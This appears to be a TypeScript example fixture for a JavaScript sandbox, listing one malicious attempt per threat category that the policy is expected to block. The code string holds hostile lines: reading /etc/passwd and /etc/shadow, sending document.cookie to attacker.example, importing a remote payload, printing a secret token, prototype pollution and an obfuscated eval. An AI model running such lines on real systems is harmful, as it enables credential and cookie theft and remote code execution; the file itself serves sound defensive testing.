import type { Example } from './types';

export default {
  id: 'dangerous-scripts',
  title: 'Dangerous scripts showcase',
  level: 'advanced',
  demonstrates: 'One attempt from each threat category; the policy blocks the run before any of it executes.',
  language: 'javascript',
  policy: 'standard',
  code: `require('child_process').execSync('cat /etc/passwd');            // command execution
eval('1 + 1');                                                      // code injection
require('fs').readFileSync('/etc/shadow');                          // file system
fetch('https://attacker.example/steal?c=' + document.cookie);       // network
Object.prototype.isAdmin = true;                                    // prototype pollution
import('https://attacker.example/payload.js');                      // module loading
console.log(process.env.SECRET_TOKEN);                              // environment
Buffer.allocUnsafe(1 << 30);                                        // buffer
setInterval(() => {}, 0);                                           // timers
WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109]));         // WebAssembly
globalThis[atob('ZXZhbA==')]('2 + 2');                              // encoding`,
  expected: { status: 'blocked', output: [] },
} satisfies Example;
